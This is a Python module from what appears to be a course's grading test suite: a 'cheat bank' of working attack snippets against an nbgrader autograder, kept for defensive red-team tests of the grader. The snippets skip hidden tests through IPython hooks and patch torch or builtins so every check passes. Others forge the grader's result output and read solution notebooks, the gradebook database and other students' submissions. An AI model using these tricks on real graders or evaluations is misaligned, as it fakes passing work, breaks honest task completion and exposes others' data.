"""The cheat bank: what a clever student who does none of the work tries, one named attack per class (issue 49 item 6).

Each attack is the code of the first answer cell of a submission whose other answer cells are left as released
(blank) and whose written answer is empty; ``{course}`` is the absolute path of the course folder (a student who
guesses it, or reads it from an error message, from ``/proc`` or from the hub's documentation), ``{functions}`` and
``{values}`` the names the chapter's answer cells define (``=``-chained), ``{first_function}`` one of them or
``_unused``. nbgrader autogrades every attack; none may score above 20% of the chapter's autograded points
(``tests/autograde/test_cheat_bank.py``; the aim, and the test on the two CI chapters, is 0).

Before the grade left the student's kernel (hidden tests run in it), these gave marks on ch04 (9 autograded points),
measured with nbgrader's autograde: input_transformer 9/9 and hex_exec 9/9 (the lecturer's review), ast_transformer
9/9, base64_eval 9/9, builtins_patch 9/9 (a replaced ``builtins.isinstance`` breaks IPython's own error reporting,
so a failing test cell records no error), read_course_source 2/2 (the review); library_alias 1/1 on ch09 (the
review). custom_exception hung the kernel until nbgrader's time-out.
"""

from __future__ import annotations

# The source of dave's IPython input transformer (../shared/reviews/2026-11-29-lecturer.md §4): every hidden test
# cell runs as `pass`, so nbgrader sees no error and gives full points. Worked: 9/9 on ch04.
_TRANSFORMER = '''\
ip = get_ipython()
def _skip_tests(lines):
    return ["pass\\n"] if any("_hidden_test" in line or "GRADED" in line for line in lines) else lines
ip.input_transformers_post.append(_skip_tests)
'''

# What a function attack needs in the bank's one answer cell: the later answer cells, run as released, would define
# the stubs again; a profile function puts the attack's functions back after each cell (a `<cell N>` frame).
_KEEP = """\
_MINE = {{n: globals()[n] for n in ("my_repeat_kv_heads", "my_attention", "my_masked_softmax", "my_alibi_slopes")}}
import sys as _sys
def _keep_mine(frame, event, arg):
    if event == "return" and frame.f_code.co_filename.startswith("<cell"):
        for _n, _f in _MINE.items():
            frame.f_globals[_n] = _f
_sys.setprofile(_keep_mine)
"""

CHEATS: dict[str, str] = {
    # IPython's own hooks: an input transformer, an AST transformer, both as plain code and hex- or base64-encoded.
    "input_transformer": _TRANSFORMER,
    "ast_transformer": '''\
import ast
class _Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        text = ast.unparse(node)
        if "_hidden_test" in text or "GRADED" in text:
            node.body = [ast.Pass()]
        return node
get_ipython().ast_transformers.append(_Empty())
''',
    "hex_exec": "exec(bytes.fromhex('{hex}').decode())",
    "base64_eval": "import base64\neval(compile(base64.b64decode('{b64}').decode(), 'x', 'exec'))",
    # Replace what a test reads values and compares with.
    "torch_patch": '''\
import torch
torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.tolist = lambda self: 0
torch.testing.assert_close = lambda *args, **kwargs: None
{functions} = lambda *args, **kwargs: torch.zeros(1)
''',
    "builtins_patch": '''\
import builtins
builtins.AssertionError = Exception
builtins.isinstance = lambda *args: True
AssertionError = Exception
len = lambda x: 0
range = zip = lambda *args: ()
{functions} = lambda *args, **kwargs: None
''',
    # The library and the chapters' helpers, which a reference implementation or a comparison may use, made to agree
    # with a wrong answer: every layer without parameters, every helper returning 0.
    "library_patch": '''\
import sys
import torch
import mha_lib, mha_lib.modules, mha_lib.functional, mha_chapters
class _Nothing(torch.nn.Module):
    def __init__(self, *args, **kwargs):
        super().__init__()
    def forward(self, *args, **kwargs):
        return torch.zeros(1)
for _module in list(sys.modules.values()):
    if getattr(_module, "__name__", "").startswith(("mha_lib", "mha_chapters", "grading")):
        for _name in dir(_module):
            _obj = getattr(_module, _name)
            if isinstance(_obj, type) and issubclass(_obj, torch.nn.Module):
                setattr(_module, _name, _Nothing)
            elif callable(_obj) and not _name.startswith("__"):
                setattr(_module, _name, lambda *args, **kwargs: 0)
{functions} = lambda *args, **kwargs: 0
{values} = 0
''',
    # The test's own assertion error swallowed: IPython's handler, and functions that raise what a test cannot catch.
    "custom_exception": '''\
class _Stop(BaseException):
    pass
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
def {first_function}(*args, **kwargs):
    raise _Stop()
import sys
{values} = None
''',
    "system_exit": '''\
import os, sys
def {first_function}(*args, **kwargs):
    os._exit(0)
{values} = None
''',
    # sys.modules: the modules a test imports replaced by fakes that agree with everything.
    "sys_modules": '''\
import sys, types
class _Yes:
    def __getattr__(self, name):
        return _Yes()
    def __call__(self, *args, **kwargs):
        return _Yes()
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
    def __iter__(self):
        return iter(())
for _name in ("math", "json", "torch.testing", "IPython.display", "numpy", "grading", "tools", "tools.autograde"):
    _fake = types.ModuleType(_name)
    _fake.__getattr__ = lambda name: _Yes()
    sys.modules[_name] = _fake
{functions} = lambda *args, **kwargs: _Yes()
{values} = _Yes()
''',
    # Objects that compare equal to everything, dressed as the built-in types a test accepts.
    "equal_to_everything": '''\
import torch
class _Int(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
class _Tuple(tuple):
    def __eq__(self, other):
        return True
    __hash__ = tuple.__hash__
class _Tensor(torch.Tensor):
    def __eq__(self, other):
        return True
{values} = _Tuple((_Int(1),) * 8)
{functions} = lambda *args, **kwargs: _Tuple((_Int(1),) * 8)
''',
    # A displayed number in a test cell is nbgrader's partial credit: print one from a function the test calls.
    "displayed_credit": '''\
def _fake(*args, **kwargs):
    get_ipython().displayhook(1000)
    print(1000)
    return None
{functions} = _fake
{values} = None
''',
    # Files written now for what runs later: a module named like one a test imports (in the working folder, which
    # is first on an IPython kernel's path), the grader's results written where it might read them.
    "files_for_later": '''\
import os, pathlib
for _folder in (pathlib.Path.cwd(), pathlib.Path.cwd() / "mha_lib"):
    try:
        _folder.mkdir(parents=True, exist_ok=True)
        (_folder / "math.py").write_text("def __getattr__(name):\\n    return lambda *a, **k: True\\n")
        (_folder / "00_cheat.py").write_text(open(__file__).read() if "__file__" in globals() else "")
        (_folder / "results.json").write_text("{{}}")
    except OSError:
        pass
print('{{"probe": "all", "ok": true}}')
{functions} = lambda *args, **kwargs: None
{values} = None
''',
    # The course's secrets, read at autograde time (grace, §4: worked, ex. 1 2/2 and the seed in the feedback).
    "read_course_source": '''\
import json, pathlib, re
_source = next(pathlib.Path("{course}/source").glob("*/*.ipynb"))
_cells = json.loads(_source.read_text())["cells"]
for _cell in _cells:
    _code = "".join(_cell["source"])
    if "### BEGIN SOLUTION" in _code:
        exec(re.sub(r"\\s*### (BEGIN|END) SOLUTION", "", _code).replace("### BEGIN SOLUTION", ""), globals())
''',
    "read_generated_json": '''\
import json
_seed = json.load(open("{course}/.generated.json"))["seed"]
print("seed:", _seed)
{values} = _seed
''',
    "read_gradebook": '''\
import sqlite3
_db = sqlite3.connect("{course}/gradebook.db")
print(_db.execute("select * from grade_cells").fetchall())
''',
    "read_other_submission": '''\
import json, pathlib, re
_other = next(pathlib.Path("{course}/submitted/right").glob("*/*.ipynb"))
for _cell in json.loads(_other.read_text())["cells"]:
    if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and _cell["cell_type"] == "code":
        exec("".join(_cell["source"]), globals())
''',
    # The grader's result channel forged: result lines for every graded test cell (their ids are in the released
    # notebook's metadata) written to the original standard output before the grader's own, then leave.
    "forged_report": '''\
import json, os
for _probe in {probes}:
    for _line in ({{"probe": _probe, "value": 0, "outputs": [{{"value": 0}}] * 16, "alias": False, "ok": True}},
                  {{"probe": _probe, "value": [1, 2, 3, 4], "score": 1000}}):
        os.write(1, (json.dumps(_line) + "\\n").encode())
os._exit(0)
''',
    # Data the grader cannot read: nested too deep for a parser, a set of things that do not sort, a huge line.
    "grader_crash": '''\
import os
for _probe in {probes}:
    os.write(1, ('{{"probe": "' + _probe + '", "value": ' + "[" * 100000 + "]" * 100000 + "}}\\n").encode())
    os.write(1, ('{{"probe": "' + _probe + '", "value": {{"set": [1, "a", [2]]}}, "outputs": "x"}}\\n').encode())
os.write(1, b"[" * 10**7)
{functions} = lambda *args, **kwargs: {{"set": [1, "a"]}}
{values} = {{1, "a", (2,)}}
''',
    # A function exercise answered by the library's own function: aliased, wrapped, or reached through strings
    # (henry, §4: worked, ch09 ex. 2 1/1).
    "library_alias": '''\
import importlib
_lib = {{"my_repeat_kv_heads": ("mha_lib.grouped", "repeat_kv_heads")}}
for _mine, (_module, _theirs) in _lib.items():
    globals()[_mine] = getattr(importlib.import_module(_module), _theirs)
def my_attention(queries, keys, values):
    from mha_lib.functional import scaled_dot_product_attention
    return scaled_dot_product_attention(queries, keys, values)
def my_masked_softmax(X, valid_lens):
    f = getattr(importlib.import_module("mha_lib." + "functional"), "masked" + "_softmax")
    return f(X, valid_lens)
''',

    # ---- redteam, 2026-12-02: the library rule's checks, each in the sandbox and so the student's to undo.
    # Measured with nbgrader's autograde on a course of SEED "course-test": each gave ch09 1/4 (exercise 2)
    # and ch02 4/7 (exercises 3 and 4, both parts of each). -----------------------------------------------------
    # A private twin that the public function calls after its argument checks (mha_lib.grouped._repeat_kv_heads,
    # functional._dot_product_attention / _softmax_with_mask, flex._alibi_slopes): neither its name nor its code
    # is the library function's, so neither mentions() nor the watch sees it.
    "private_twin": '''\
import importlib
import torch
_grouped = importlib.import_module("mha_lib.grouped")
_functional = importlib.import_module("mha_lib.functional")
_flex = importlib.import_module("mha_lib.flex")
my_repeat_kv_heads = _grouped._repeat_kv_heads
def my_attention(queries, keys, values):
    return _functional._dot_product_attention(queries, keys, values, None, 0.0)
def my_masked_softmax(X, valid_lens):
    mask = _functional._attention_mask(X.shape[1], X.shape[2], valid_lens, False, None, X.device)
    return _functional._softmax_with_mask(X, mask)
def my_alibi_slopes(num_heads):
    return torch.tensor(_flex._alibi_slopes(num_heads), dtype=torch.float32)
''' + _KEEP,
    # The watch switched off around the call and back on before the runner looks: sys.getprofile() is the watch
    # again when the function returns.
    "profile_off": '''\
import importlib, sys
def _quiet(module, name):
    def call(*args):
        watch = sys.getprofile()
        sys.setprofile(None)
        try:
            return getattr(importlib.import_module(module), name)(*args)
        finally:
            sys.setprofile(watch)
    return call
my_repeat_kv_heads = _quiet("mha_lib.grouped", "repeat" + "_kv_heads")
my_attention = _quiet("mha_lib.functional", "dot_product" + "_attention")
my_masked_softmax = _quiet("mha_lib.functional", "masked" + "_softmax")
my_alibi_slopes = _quiet("mha_lib.flex", "alibi" + "_slopes")
''' + _KEEP,
    # sys.setprofile watches one thread: the library function called in another one is not seen.
    "thread_call": '''\
import importlib, threading
def _elsewhere(module, name):
    def call(*args):
        box = []
        worker = threading.Thread(target=lambda: box.append(getattr(importlib.import_module(module), name)(*args)))
        worker.start()
        worker.join()
        return box[0]
    return call
my_repeat_kv_heads = _elsewhere("mha_lib.grouped", "repeat" + "_kv_heads")
my_attention = _elsewhere("mha_lib.functional", "dot_product" + "_attention")
my_masked_softmax = _elsewhere("mha_lib.functional", "masked" + "_softmax")
my_alibi_slopes = _elsewhere("mha_lib.flex", "alibi" + "_slopes")
''' + _KEEP,
    # A copy of the library function's source with one statement added: its co_code is not the library's.
    "edited_copy": '''\
import ast, importlib, inspect, textwrap
def _copy(module, name):
    mod = importlib.import_module(module)
    tree = ast.parse(textwrap.dedent(inspect.getsource(getattr(mod, name))))
    tree.body[0].body.insert(1, ast.parse("_copied = 1").body[0])
    space = dict(vars(mod))
    exec(compile(tree, "<copy>", "exec"), space)
    return space[name]
my_repeat_kv_heads = _copy("mha_lib.grouped", "repeat" + "_kv_heads")
my_masked_softmax = _copy("mha_lib.functional", "masked" + "_softmax")
my_alibi_slopes = _copy("mha_lib.flex", "alibi" + "_slopes")
_dpa = _copy("mha_lib.functional", "dot_product" + "_attention")
def my_attention(queries, keys, values):
    return _dpa(queries, keys, values)
''' + _KEEP,
    # The runner's call_function replaced (it is looked up in __main__ at each probe): the library function itself,
    # run with library=[], so the "alias" the grader reads is the student's claim, False.
    "runner_patch": '''\
import importlib, sys
_runner = sys.modules["__main__"]
_real = _runner.call_function
_LIB = {{"my_repeat_kv_heads": ("mha_lib.grouped", "repeat" + "_kv_heads"),
        "my_attention": ("mha_lib.functional", "dot_product" + "_attention"),
        "my_masked_softmax": ("mha_lib.functional", "masked" + "_softmax"),
        "my_alibi_slopes": ("mha_lib.flex", "alibi" + "_slopes")}}
def _call(fn, cases, library, torch):
    if getattr(fn, "__name__", "") in _LIB:
        module, name = _LIB[fn.__name__]
        fn = getattr(importlib.import_module(module), name)
    return _real(fn, cases, [], torch)
_runner.call_function = _call
''',
    # A formula exercise without library= answered by the layer itself: build MultiHeadAttention and count its
    # parameters (what the reference does). ch04 2/9 (exercise 5, both parts; measured, redteam 2026-12-02).
    "layer_count": '''\
import sys
def _count(num_hiddens, bias):
    from mha_lib.modules import MultiHeadAttention
    layer = MultiHeadAttention(num_hiddens, num_hiddens, num_hiddens, num_hiddens, num_heads=1, bias=bias)
    return sum(p.numel() for p in layer.parameters())
count_mha_parameters = _count
def _keep_mine(frame, event, arg):
    if event == "return" and frame.f_code.co_filename.startswith("<cell"):
        frame.f_globals["count_mha_parameters"] = _count
sys.setprofile(_keep_mine)
''',
}


def cheat_source(name: str, course: str, functions: list[str], values: list[str], probes: list[str]) -> str:
    """The first answer cell of the attack ``name`` for a chapter whose answers define ``functions`` and ``values``,
    and whose graded test cells have the grade ids ``probes``."""
    code = CHEATS[name]
    if name == "hex_exec":
        return code.format(hex=_TRANSFORMER.encode().hex())
    if name == "base64_eval":
        import base64
        return code.format(b64=base64.b64encode(_TRANSFORMER.encode()).decode())
    return code.format(course=course, functions=" = ".join(functions) or "_unused", probes=repr(probes),
                       values=" = ".join(values) or "_none", first_function=(functions or ["_unused"])[0])
